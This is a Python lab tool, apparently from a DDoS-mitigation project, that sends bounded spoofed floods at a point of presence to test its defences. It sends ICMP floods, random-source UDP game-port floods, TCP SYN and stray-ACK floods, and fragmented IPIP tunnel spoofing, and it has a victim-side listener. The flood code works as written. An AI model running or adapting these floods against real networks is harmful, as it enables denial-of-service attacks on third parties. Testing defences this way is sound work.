"""An attacker next to a POP, for the VM lab: forged frames onto a POP's uplink, and the victim.

Run inside the upstream router's namespace (``ip netns exec ae-upstream``) to send, or inside the
players' namespace (``ae-client``) to listen as the victim, with the project's venv (it has
scapy). Frames are built with scapy once and sent through an AF_PACKET socket on the link to
the POP, addressed to the POP's MAC (the upstream's neighbour entry, else ARP), so they reach
exactly that POP whatever the upstream's routes say. Every command prints one JSON object.

Everything is bounded (a packet count and a rate) and stays in the lab: the namespaces have no
path off this machine.

  flood   N ICMP echoes "from" SOURCE to a service address (issue 12 section 2: a spoofed flood
          in the name of the POP's BGP neighbour)
  game-flood
          N UDP datagrams to a game service, each from a different random address of a range
          (seeded: the same run sends the same sources), every Nth a Source engine getchallenge
          (handshake-shaped: what admission lets through within the budget under attack), the
          rest junk (issue 13: the spoofed flood at the game port); as fast as the POP takes them
          (--most-waiting frames queued on the link at most), at most --rate per second
  tcp-flood
          N TCP segments to a TCP service, each from a different random address of a range, all
          SYNs (--flags syn, with a Linux client's options) or all bare ACKs that follow no SYN
          (--flags ack), valid checksums, random sequence numbers (issue 14: SYN authentication
          and out-of-state drops); sent like game-flood, as fast as the POP takes them
  ipip    N IPIP packets "from" a backend's tunnel address to the POP's tunnel address, each
          carrying a UDP datagram to a victim; --fragment splits each outer packet in two
          (issue 12 section 3: the kernel's ipip device must not reassemble and forward them)
  direct  the inner datagram itself, routed by this namespace (a control: what a victim gets when
          a POP lets the packet through)
  listen  count the UDP datagrams that reach ADDRESS:PORT for a while (the victim's view)
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

from scapy.layers.inet import ICMP, IP, TCP, UDP, fragment
from scapy.layers.l2 import Ether, getmacbyip
from scapy.sendrecv import send
from scapy.arch import get_if_hwaddr


def neighbour_mac(address: str) -> str:
    with open("/proc/net/arp", encoding="ascii") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                return fields[3]
    mac = getmacbyip(address)
    if not mac:
        raise SystemExit("no MAC address for %s (is the POP's uplink up?)" % address)
    return mac


def send_frames(iface: str, frames: list[bytes], count: int, rate: float) -> float:
    """Send ``count`` rounds of ``frames`` at ``rate`` rounds per second; return the seconds taken."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    started = time.monotonic()
    for number in range(count):
        for frame in frames:
            sock.send(frame)
        # Pace against the start, not per packet, so a slow send does not stretch the flood.
        delay = started + (number + 1) / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    return time.monotonic() - started


def ether_to(args) -> Ether:
    return Ether(src=get_if_hwaddr(args.iface), dst=neighbour_mac(args.pop))


def cmd_flood(args) -> dict:
    frame = ether_to(args) / IP(src=args.source, dst=args.target) / ICMP(id=0x4145, seq=1) / (b"x" * 32)
    seconds = send_frames(args.iface, [bytes(frame)], args.count, args.rate)
    return {"sent": args.count, "seconds": round(seconds, 2), "source": args.source, "target": args.target}


def ipv4_checksum(header: bytes) -> int:
    total = sum(struct.unpack("!%dH" % (len(header) // 2), header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


# A2S_GETCHALLENGE 'q' as a Source client sends it (lab/player.py source_getchallenge): 20 bytes.
GETCHALLENGE = b"\xff\xff\xff\xffq%s0000000000\x00"
JUNK = b"\x00spoofed flood " + b"x" * 34


def random_source_frames(args, templates: dict[str, bytes], kind_of, finish=None) -> tuple[list[bytes], int]:
    """The frames of a flood from many random sources (the one home of their building): scapy
    builds one frame per payload kind (``templates``); each frame then gets its own source address
    and source port patched in, ``finish(frame, kind, rng)`` patches what else is per frame, and
    the IP checksum is recomputed. That takes microseconds where building 65,536 scapy packets
    takes minutes. ``kind_of(number)`` names the template of the number-th frame. Sources are
    distinct (a sample of the range without replacement) when the range has room; the same seed
    gives the same frames."""
    network = ipaddress.ip_network(args.sources)
    rng = random.Random(args.seed)
    if args.count <= network.num_addresses:
        offsets = rng.sample(range(network.num_addresses), args.count)
    else:
        offsets = [rng.randrange(network.num_addresses) for dummy in range(args.count)]
    base = int(network.network_address)
    frames = []
    for number, offset in enumerate(offsets):
        kind = kind_of(number)
        frame = bytearray(templates[kind])
        struct.pack_into("!I", frame, 26, base + offset)               # IP source
        struct.pack_into("!H", frame, 34, rng.randrange(1024, 65536))  # UDP or TCP source port
        if finish:
            finish(frame, kind, rng)
        struct.pack_into("!H", frame, 24, 0)
        struct.pack_into("!H", frame, 24, ipv4_checksum(bytes(frame[14:34])))
        frames.append(bytes(frame))
    return frames, len(set(offsets))


def game_flood_frames(args) -> tuple[list[bytes], int]:
    """The game flood's frames: every --handshake-every-th a Source getchallenge with its own
    client nonce, the rest junk; the UDP checksum left 0 ("none" in IPv4)."""
    link = ether_to(args)
    templates = {}
    for kind in ("handshake", "junk"):
        payload = GETCHALLENGE % b"\0\0\0\0" if kind == "handshake" else JUNK
        templates[kind] = bytes(link / IP(src="0.0.0.0", dst=args.target, ttl=60)
                                / UDP(sport=1024, dport=args.port, chksum=0) / payload)

    def kind_of(number: int) -> str:
        return "handshake" if args.handshake_every and number % args.handshake_every == 0 else "junk"

    def client_nonce(frame: bytearray, kind: str, rng: random.Random) -> None:
        if kind == "handshake":
            frame[47:51] = rng.randbytes(4)

    return random_source_frames(args, templates, kind_of, client_nonce)


# What a Linux client's SYN carries (60 IP bytes: MSS, SACK permitted, timestamps, window scale):
# the POP's SYN-ACK (40 bytes, no options) is smaller than what each spoofed SYN brought.
SYN_OPTIONS = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (0, 0)), ("NOP", None), ("WScale", 7)]
TCP_FLAGS = {"syn": "S", "ack": "A"}


def tcp_checksum(segment: bytes, source: bytes, destination: bytes) -> int:
    """The TCP checksum of ``segment`` (its checksum field zero) under the IPv4 pseudo-header."""
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    data = pseudo + segment + (b"\0" if len(segment) % 2 else b"")
    return ipv4_checksum(data)


def tcp_flood_frames(args) -> tuple[list[bytes], int]:
    """The TCP flood's frames: SYNs as a Linux client sends them, or bare ACKs that follow no SYN,
    each with a random sequence number (and acknowledgement), and a valid TCP checksum: the game
    server's kernel would drop a bad one before any socket, and the check counts what arrives."""
    options = SYN_OPTIONS if args.flags == "syn" else []
    template = bytes(ether_to(args) / IP(src="0.0.0.0", dst=args.target, ttl=60)
                     / TCP(sport=1024, dport=args.port, flags=TCP_FLAGS[args.flags], window=64240, options=options))

    def sequence_and_checksum(frame: bytearray, dummy_kind: str, rng: random.Random) -> None:
        frame[38:42] = rng.randbytes(4)                      # sequence number
        if args.flags == "ack":
            frame[42:46] = rng.randbytes(4)                  # acknowledgement number
        struct.pack_into("!H", frame, 50, 0)
        struct.pack_into("!H", frame, 50, tcp_checksum(bytes(frame[34:]), bytes(frame[26:30]), bytes(frame[30:34])))

    return random_source_frames(args, {args.flags: template}, lambda number: args.flags, sequence_and_checksum)


class LinkBacklog:
    """How many frames wait in a tap's queue for its reader (the POP's QEMU), from the tap's own
    counters: Linux's tun driver counts tx_packets when the reader takes a frame and tx_dropped
    when its queue (tx_queue_len frames) was full. Frames sent are added as they go; a drop means
    the queue is full. Other traffic on the link (the players' datagrams the upstream routes
    there) is taken by the reader too, so the estimate can only run low, and the next drop puts
    it right. A sender that keeps it under a bound sends as fast as the reader takes frames -
    the rate the lab sustains - and never makes the link drop another sender's datagrams."""

    def __init__(self, queue_len: int, delivered: int, dropped: int):
        self.queue_len = queue_len
        self.delivered = delivered
        self.dropped = dropped
        self.waiting = 0
        self.drops = 0

    def sent(self, frames: int = 1) -> None:
        self.waiting += frames

    def update(self, delivered: int, dropped: int) -> int:
        taken, lost = delivered - self.delivered, dropped - self.dropped
        self.delivered, self.dropped = delivered, dropped
        self.drops += lost
        self.waiting = self.queue_len if lost else max(0, self.waiting - taken)
        return self.waiting


class LinkCounters:
    """tx_packets and tx_dropped of a link in this namespace, read again on each call (sysfs
    makes a counter's text anew on a read from offset 0: the files stay open, one pread each)."""

    def __init__(self, iface: str):
        self.fds = [os.open("/sys/class/net/%s/statistics/%s" % (iface, name), os.O_RDONLY)
                    for name in ("tx_packets", "tx_dropped")]

    def __call__(self) -> tuple[int, int]:
        delivered, dropped = (int(os.pread(fd, 32, 0)) for fd in self.fds)
        return delivered, dropped

    def close(self) -> None:
        for fd in self.fds:
            os.close(fd)


def send_as_the_link_takes(args, frames: list[bytes]) -> dict:
    """Put ``frames`` on the link as fast as the POP takes them (at most --most-waiting of them in
    the tap's queue, LinkBacklog), never faster than --rate; what it measured, for the report."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    link_counters = LinkCounters(args.iface)
    with open("/sys/class/net/%s/tx_queue_len" % args.iface, encoding="ascii") as queue_len:
        backlog = LinkBacklog(int(queue_len.read()), *link_counters())
    held_back = 0.0
    started = time.monotonic()
    started_at = time.time()  # wall clock of the first datagram, to line up with other processes' reports
    for number, frame in enumerate(frames):
        if args.most_waiting:
            while backlog.update(*link_counters()) >= args.most_waiting:
                waited = time.monotonic()
                time.sleep(0.0005)
                held_back += time.monotonic() - waited
        sock.send(frame)
        backlog.sent()
        # Never faster than --rate: paced against the start (as send_frames), one frame per step.
        delay = started + (number + 1) / args.rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    seconds = time.monotonic() - started
    backlog.update(*link_counters())
    link_counters.close()
    sock.close()
    return {"sent": len(frames), "seconds": round(seconds, 2), "rate": round(len(frames) / seconds),
            "started_at": round(started_at, 3), "most_waiting": args.most_waiting,
            "held_back_sec": round(held_back, 2), "link_dropped": backlog.drops}


def cmd_game_flood(args) -> dict:
    frames, distinct = game_flood_frames(args)
    result = send_as_the_link_takes(args, frames)
    handshakes = sum(1 for number in range(len(frames)) if args.handshake_every and number % args.handshake_every == 0)
    result.update({"distinct_sources": distinct, "sources": args.sources, "seed": args.seed,
                   "handshake_shaped": handshakes, "junk": len(frames) - handshakes,
                   "target": "%s:%d" % (args.target, args.port)})
    return result


def cmd_tcp_flood(args) -> dict:
    frames, distinct = tcp_flood_frames(args)
    result = send_as_the_link_takes(args, frames)
    result.update({"distinct_sources": distinct, "sources": args.sources, "seed": args.seed, "flags": args.flags,
                   "frame_bytes": len(frames[0]), "target": "%s:%d" % (args.target, args.port)})
    return result


def cmd_ipip(args) -> dict:
    inner = IP(src=args.inner_source, dst=args.victim, ttl=64) / UDP(sport=args.inner_port, dport=args.port) / (
        b"spoofed ipip " + b"x" * args.payload)
    outer = IP(src=args.outer_source, dst=args.outer_dest, proto=4, id=0x4145) / inner
    link = ether_to(args)
    packets = fragment(outer, fragsize=args.fragsize) if args.fragment else [outer]
    frames = [bytes(link / packet) for packet in packets]
    seconds = send_frames(args.iface, frames, args.count, args.rate)
    return {"sent": args.count, "frames_per_packet": len(frames), "fragmented": args.fragment,
            "seconds": round(seconds, 2), "outer": "%s > %s" % (args.outer_source, args.outer_dest),
            "inner": "%s > %s:%d" % (args.inner_source, args.victim, args.port)}


def cmd_direct(args) -> dict:
    packet = IP(src=args.source, dst=args.victim) / UDP(sport=args.source_port, dport=args.port) / b"control"
    send(packet, count=args.count, verbose=False)
    return {"sent": args.count, "datagram": "%s:%d > %s:%d" % (args.source, args.source_port, args.victim, args.port)}


def cmd_listen(args) -> dict:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.address, args.port))
    received, sources = 0, set()
    deadline = time.monotonic() + args.duration
    while (left := deadline - time.monotonic()) > 0:
        sock.settimeout(left)
        try:
            dummy, peer = sock.recvfrom(4096)
        except socket.timeout:
            break
        received += 1
        sources.add(peer[0])
    return {"received": received, "sources": sorted(sources), "address": "%s:%d" % (args.address, args.port)}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    commands = parser.add_subparsers(dest="command", required=True)

    def sender(name: str, help_text: str) -> argparse.ArgumentParser:
        command = commands.add_parser(name, help=help_text)
        command.add_argument("--iface", required=True, help="the link to the POP, in this namespace")
        command.add_argument("--pop", required=True, help="the POP's address on that link (for its MAC)")
        command.add_argument("--count", type=int, required=True)
        command.add_argument("--rate", type=float, default=100.0, help="packets (or fragment pairs) per second")
        return command

    flood = sender("flood", "ICMP echoes in SOURCE's name to a service address")
    flood.add_argument("--source", required=True)
    flood.add_argument("--target", required=True)

    game = sender("game-flood", "UDP to a game service from many random sources of a range")
    game.add_argument("--handshake-every", type=int, default=10,
                      help="every Nth datagram a Source getchallenge, the rest junk (0: junk only)")

    tcp = sender("tcp-flood", "TCP SYNs or bare ACKs to a TCP service from many random sources of a range")
    tcp.add_argument("--flags", choices=sorted(TCP_FLAGS), required=True,
                     help="syn: a SYN flood; ack: ACKs that follow no SYN (out of state)")
    for command in (game, tcp):
        command.add_argument("--target", required=True)
        command.add_argument("--port", type=int, required=True)
        command.add_argument("--sources", required=True, help="the range the sources are drawn from (give the "
                             "upstream a blackhole route for it: the replies to them must die there)")
        command.add_argument("--seed", type=int, default=13)
        command.add_argument("--most-waiting", type=int, default=128,
                             help="frames queued on the link for the POP at most: send as fast as it takes "
                             "them, up to --rate (0: at --rate, whatever the link drops)")

    ipip = sender("ipip", "IPIP in a backend's name carrying UDP to a victim")
    ipip.add_argument("--outer-source", required=True)
    ipip.add_argument("--outer-dest", required=True)
    ipip.add_argument("--inner-source", required=True)
    ipip.add_argument("--inner-port", type=int, default=27015)
    ipip.add_argument("--victim", required=True)
    ipip.add_argument("--port", type=int, required=True)
    ipip.add_argument("--payload", type=int, default=600, help="bytes of padding in the inner datagram")
    ipip.add_argument("--fragment", action="store_true", help="send each outer packet as fragments")
    ipip.add_argument("--fragsize", type=int, default=400)

    direct = commands.add_parser("direct", help="UDP from SOURCE to VICTIM:PORT, routed here")
    direct.add_argument("--source", required=True)
    direct.add_argument("--source-port", type=int, default=27015)
    direct.add_argument("--victim", required=True)
    direct.add_argument("--port", type=int, required=True)
    direct.add_argument("--count", type=int, default=5)

    listen = commands.add_parser("listen", help="count datagrams to ADDRESS:PORT")
    listen.add_argument("--address", required=True)
    listen.add_argument("--port", type=int, required=True)
    listen.add_argument("--duration", type=float, required=True)

    args = parser.parse_args(argv)
    # The random-source floods need more than 65,536 sources (issues 13 and 14), each one packet;
    # the others stay small.
    most_count, most_rate = (200000, 50000) if args.command in ("game-flood", "tcp-flood") else (20000, 5000)
    if getattr(args, "count", 1) > most_count or getattr(args, "rate", 1) > most_rate:
        parser.error("--count is at most %d and --rate at most %d for %s: the lab's floods are bounded"
                     % (most_count, most_rate, args.command))
    result = {"flood": cmd_flood, "game-flood": cmd_game_flood, "tcp-flood": cmd_tcp_flood, "ipip": cmd_ipip,
              "direct": cmd_direct, "listen": cmd_listen}[args.command](args)
    json.dump(result, sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
